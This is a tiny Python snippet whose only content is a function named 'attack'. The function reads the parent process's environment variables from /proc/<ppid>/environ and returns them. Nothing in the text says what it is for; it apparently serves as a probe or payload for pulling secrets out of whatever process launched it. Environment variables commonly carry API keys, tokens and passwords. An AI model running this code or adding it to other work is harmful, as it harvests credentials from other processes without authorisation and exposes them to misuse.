import os


def attack(arg):
    with open(f"/proc/{os.getppid()}/environ", "rb") as f:
        return f.read().decode("latin-1")
